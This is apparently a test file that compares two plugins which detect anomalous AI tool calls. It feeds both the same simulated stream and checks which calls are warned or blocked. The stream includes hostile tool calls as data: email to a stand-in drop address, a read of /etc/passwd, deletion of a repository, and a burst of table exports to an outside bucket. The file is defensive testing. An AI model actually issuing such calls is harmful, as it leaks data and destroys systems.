// toolwatch and the prior-art plugin in one ContextForge plugin manager, on the same stream of calls, each
// judged through the framework's own executor. The decisions are printed side by side in the test output.
// Each plugin is called by name (invoke_hook_for_plugin), which hands it the call's arguments; through the
// gateway's whole chain an external plugin gets none (gateway.test.ts), so the argument rows here are what
// the in-process plugin sees, and what `toolwatch serve` sees once the framework passes arguments on.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  drive,
  ensureVenv,
  mcpIdentity,
  priorArtEntry,
  serve,
  skipReason,
  toolwatchEntry,
  writeConfig,
  type CallOutcome,
  type GatewayIdentity,
  type HookOutcome,
  type Op,
  type Served,
} from "./harness.js";

const TOOLWATCH = "ToolCallAnomalyDetection";
const PRIOR_ART = "PriorArtAnomalyDetection";

// Both with the same window, thresholds and learning (calls, not an hour: the run lasts seconds), and no
// fixed off-hours window, so the comparison does not depend on when it runs.
const SHARED = { burstWindowSeconds: 2, burstThreshold: 20, warnThreshold: 0.5, blockThreshold: 0.8 };
const TOOLWATCH_CONFIG = {
  ...SHARED,
  minCalls: 5,
  learningWindowSeconds: 0,
  tenantMinCalls: 5,
  tenantLearningWindowSeconds: 0,
  offHoursStart: 0,
  offHoursEnd: 0,
  action: "block",
};
const PRIOR_ART_CONFIG = {
  learning_window_seconds: 0,
  burst_window_seconds: 2,
  burst_threshold: 20,
  warn_threshold: 0.5,
  block_threshold: 0.8,
  off_hours_start: 0,
  off_hours_end: 0,
  action: "block",
};

const erin = mcpIdentity("erin@acme.example", "team-ops");
const frank = mcpIdentity("frank@acme.example", "team-ops");
const gina = mcpIdentity("gina@acme.example", "team-ops");

interface Step {
  label: string;
  tool: string;
  args: Record<string, unknown>;
  identity: GatewayIdentity;
  who: string;
  sleep?: number;
}

function steps(): Step[] {
  const s: Step[] = [];
  const colleagues = ["ana@acme.example", "ben@acme.example"];
  // routine: three people take turns every 200 ms; erin mails two colleagues in two rounds of three, from
  // her first call on (a tool first used once a baseline judges is warned, and joins it only in habitHours)
  for (let i = 0; i < 12; i++) {
    s.push(
      i % 3 !== 1
        ? {
            label: "routine",
            tool: "send_email",
            args: { to: colleagues[i % 2], body: "status" },
            identity: erin,
            who: "erin",
            sleep: 200,
          }
        : { label: "routine", tool: "list_files", args: { path: "/reports" }, identity: erin, who: "erin", sleep: 200 },
    );
    s.push({
      label: "routine",
      tool: i % 2 ? "read_file" : "list_files",
      args: { path: `/docs/${i % 3}` },
      identity: frank,
      who: "frank",
      sleep: 200,
    });
    s.push({
      label: "routine",
      tool: i % 2 ? "read_file" : "search_docs",
      args: i % 2 ? { path: `/docs/${i % 4}` } : { q: "runbook" },
      identity: gina,
      who: "gina",
      sleep: 200,
    });
  }
  s.push({ label: "pause", tool: "list_files", args: { path: "/reports" }, identity: erin, who: "erin", sleep: 2100 });
  s.push({
    label: "new recipient",
    tool: "send_email",
    args: { to: "drop@evil.example", body: "q3 numbers" },
    identity: erin,
    who: "erin",
  });
  s.push({
    label: "new arg shape",
    tool: "read_file",
    args: { path: "/etc/passwd", follow_links: true },
    identity: frank,
    who: "frank",
  });
  s.push({ label: "new tool", tool: "delete_repo", args: { name: "infra" }, identity: gina, who: "gina", sleep: 2100 });
  for (let i = 0; i < 25; i++)
    s.push({
      label: "exfil burst",
      tool: `export_table_${i}`,
      args: { dest: "s3://drop" },
      identity: erin,
      who: "erin",
    });
  for (let i = 0; i < 25; i++)
    s.push({ label: "volume burst", tool: "read_file", args: { path: "/docs/1" }, identity: frank, who: "frank" });
  return s;
}

type Verdict = { action: "allow" | "warn" | "block" | "error"; risk: number };

function toolwatchVerdict(o: HookOutcome): Verdict {
  if (o.raised === "PluginViolationError")
    return { action: "block", risk: o.violation?.details?.toolwatch?.risk_score ?? 1 };
  if (o.raised) return { action: "error", risk: NaN };
  return { action: o.metadata!.toolwatch.action, risk: o.metadata!.toolwatch.risk_score };
}

function priorArtVerdict(o: HookOutcome): Verdict {
  if (o.raised === "PluginViolationError")
    return { action: "block", risk: o.violation?.details?.anomaly_risk_score ?? 1 };
  if (o.raised) return { action: "error", risk: NaN };
  const risk = o.metadata?.anomaly_risk_score ?? 0;
  return { action: risk >= PRIOR_ART_CONFIG.warn_threshold ? "warn" : "allow", risk };
}

describe.skipIf(skipReason !== undefined)("toolwatch beside the prior-art plugin in one ContextForge manager", () => {
  let http: Served;
  beforeAll(async () => {
    ensureVenv();
    http = await serve(writeConfig(TOOLWATCH_CONFIG), ["--log-level", "warn"]);
  }, 240_000);
  afterAll(async () => {
    await http?.close();
  });

  it("judges the same stream; the decisions side by side", async () => {
    const plan = steps();
    const ops: Op[] = [];
    for (const st of plan) {
      for (const plugin of [TOOLWATCH, PRIOR_ART])
        ops.push({ op: "call", tool: st.tool, args: st.args, identity: st.identity, plugin });
      if (st.sleep) ops.push({ op: "sleep", ms: st.sleep });
    }
    const r = await drive({
      plugins: [toolwatchEntry({ url: http.url }), priorArtEntry(PRIOR_ART_CONFIG)],
      ops,
      seed: true,
    });
    expect(r.init_error).toBeUndefined();
    expect(r.loaded).toBe(2);
    const calls = r.ops as CallOutcome[];
    expect(calls).toHaveLength(plan.length * 2);

    const rows = plan.map((st, i) => ({
      ...st,
      tw: toolwatchVerdict(calls[2 * i]!.pre),
      pa: priorArtVerdict(calls[2 * i + 1]!.pre),
    }));
    const fmt = (v: Verdict) => `${v.action.padEnd(5)} ${Number.isFinite(v.risk) ? v.risk.toFixed(2) : "  - "}`;
    const lines = [
      "  # | who   | step          | tool               | toolwatch  | prior art",
      ...rows.map(
        (x, i) =>
          `${String(i + 1).padStart(3)} | ${x.who.padEnd(5)} | ${x.label.padEnd(13)} | ${x.tool.padEnd(18)} | ${fmt(x.tw)} | ${fmt(x.pa)}`,
      ),
    ];
    const summary = (label: string) => {
      const sel = rows.filter((x) => x.label === label);
      const count = (k: "tw" | "pa", a: string) => sel.filter((x) => x[k].action === a).length;
      return (
        `${label.padEnd(13)} (${sel.length}): toolwatch ${count("tw", "allow")} allow / ${count("tw", "warn")} warn / ${count("tw", "block")} block;` +
        ` prior art ${count("pa", "allow")} allow / ${count("pa", "warn")} warn / ${count("pa", "block")} block`
      );
    };
    console.log(
      [
        "",
        "toolwatch vs the prior-art plugin, same manager, same stream:",
        ...lines,
        "",
        ...["routine", "new recipient", "new arg shape", "new tool", "exfil burst", "volume burst"].map(summary),
        "",
      ].join("\n"),
    );

    // Neither plugin failed on any call.
    expect(rows.filter((x) => x.tw.action === "error" || x.pa.action === "error")).toEqual([]);
    // What a user relies on from toolwatch on this stream: routine work is never blocked, and the last
    // rounds of it (learned) are plain allows; the first contact with an outside address, the new tool and
    // the new argument shape are at least warned; the exfiltration burst and the volume burst are stopped.
    const routineRows = rows.filter((x) => x.label === "routine");
    expect(routineRows.filter((x) => x.tw.action === "block")).toEqual([]);
    expect(routineRows.slice(-6).every((x) => x.tw.action === "allow")).toBe(true);
    for (const label of ["new recipient", "new arg shape", "new tool"]) {
      expect(rows.find((x) => x.label === label)!.tw.action, label).not.toBe("allow");
    }
    expect(rows.filter((x) => x.label === "exfil burst").some((x) => x.tw.action === "block")).toBe(true);
    expect(rows.filter((x) => x.label === "volume burst").some((x) => x.tw.action === "block")).toBe(true);
  }, 120_000);
});
